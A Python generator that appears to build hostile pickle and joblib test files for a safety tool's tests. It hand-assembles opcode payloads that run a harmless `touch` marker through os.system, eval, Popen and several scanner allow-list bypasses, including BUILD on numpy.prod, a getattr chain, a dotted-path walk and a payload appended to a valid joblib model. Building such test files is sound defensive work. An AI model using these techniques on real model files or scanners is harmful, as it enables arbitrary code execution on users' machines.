"""Writes hostile pickle files for Augur's safety tests.

Each file would run `touch /tmp/augur-marker-<name>` if Python's pickle.load (or
joblib.load) read it. The generator proves that for the files Python can load by loading
them in a child process and checking that the marker appears, then removes the marker.
Augur's tests load the same files and check that the marker never appears.

Usage: python generate.py OUTDIR   (needs numpy, joblib and scikit-learn)
"""

import io
import os
import pickle
import struct
import subprocess
import sys

import joblib
import numpy as np
from sklearn.linear_model import LinearRegression

MARKER = "/tmp/augur-marker-{}"


def command(name):
    return "touch " + MARKER.format(name)


class Reduce:
    """Pickles as `callable(*args)`."""

    def __init__(self, callable_, args):
        self.callable_, self.args = callable_, args

    def __reduce__(self):
        return self.callable_, self.args


def short_unicode(text):
    data = text.encode()
    return b"\x8c" + bytes([len(data)]) + data


def stack_global(module, name):
    return short_unicode(module) + short_unicode(name) + b"\x93"


def l4_model():
    model = LinearRegression()
    model.coef_ = np.array([1.0, 2.0, 0.0, 0.0])
    model.intercept_ = 0.5
    model.n_features_in_ = 4
    return model


def files():
    import subprocess as sp

    yield "os_system_p2.pkl", pickle.dumps(Reduce(os.system, (command("os_system_p2"),)), protocol=2)
    yield "os_system_p0.pkl", pickle.dumps(Reduce(os.system, (command("os_system_p0"),)), protocol=0)
    yield "eval_p4.pkl", pickle.dumps(
        Reduce(eval, ("__import__('os').system(%r)" % command("eval_p4"),)), protocol=4
    )
    yield "popen_p5.pkl", pickle.dumps(
        Reduce(sp.Popen, (["touch", MARKER.format("popen_p5")],)), protocol=5
    )

    # An allowed numpy function given attributes by BUILD, then used to rebuild os.system
    # from strings it carries (the allow-list bypass of protectai/modelscan#85).
    payload = b"\x80\x04" + stack_global("numpy", "prod") + b"\x94"
    payload += b"(" + short_unicode("__module__") + short_unicode("os")
    payload += short_unicode("__name__") + short_unicode("system") + b"d"  # DICT
    payload += b"b"  # BUILD on the numpy.prod global
    payload += b"0"  # POP
    payload += short_unicode("os") + short_unicode("system") + b"\x93"
    payload += short_unicode(command("build_on_global")) + b"\x85R."
    yield "build_on_global.pkl", payload

    # numpy.__builtins__ reached through STACK_GLOBAL, then eval out of it.
    payload = b"\x80\x04" + stack_global("numpy", "__builtins__")
    payload += b"0"  # (a real exploit would index it; the name alone is the attack)
    payload += stack_global("builtins", "eval")
    payload += short_unicode("__import__('os').system(%r)" % command("dunder_builtins")) + b"\x85R."
    yield "dunder_builtins.pkl", payload

    # getattr on an allowed module (joblib.numpy_pickle imports os) to reach os.system.
    payload = b"\x80\x04" + stack_global("builtins", "getattr") + b"\x94"  # memo 0
    payload += stack_global("joblib", "numpy_pickle") + short_unicode("os") + b"\x86R"  # os
    payload += b"\x94" + b"0"  # memo 1: the os module
    payload += b"h\x00" + b"h\x01" + short_unicode("system") + b"\x86R"  # os.system
    payload += short_unicode(command("getattr_chain")) + b"\x85R."
    yield "getattr_chain.pkl", payload

    # A valid joblib model with `posix.system(...)` run just before its STOP.
    buffer = io.BytesIO()
    joblib.dump(l4_model(), buffer)
    model = buffer.getvalue()
    assert model.endswith(b".")
    attack = stack_global("posix", "system") + short_unicode(command("joblib_appended")) + b"\x85R0"
    yield "joblib_appended.joblib", model[:-1] + attack + b"."

    # A dotted name that walks from an allowed module to os.system (protocol 4 allows it).
    payload = b"\x80\x04" + stack_global("numpy", "testing._private.utils.os.system")
    payload += short_unicode(command("dotted_path")) + b"\x85R."
    yield "dotted_path.pkl", payload


def main(outdir):
    os.makedirs(outdir, exist_ok=True)
    for name, data in files():
        path = os.path.join(outdir, name)
        with open(path, "wb") as handle:
            handle.write(data)
        stem = name.split(".")[0]
        marker = MARKER.format(stem)
        if os.path.exists(marker):
            os.remove(marker)
        loader = "joblib.load" if name.endswith(".joblib") else "pickle.load"
        probe = (
            "import pickle, joblib, numpy, sys\n"
            f"{loader}(open({path!r}, 'rb'))\n"
        )
        result = subprocess.run([sys.executable, "-c", probe], capture_output=True, timeout=60)
        fired = os.path.exists(marker)
        if fired:
            os.remove(marker)
        print(f"{name}: {len(data)} bytes; Python's {loader} ran it: {fired}")


if __name__ == "__main__":
    main(sys.argv[1] if len(sys.argv) > 1 else os.path.dirname(os.path.abspath(__file__)))
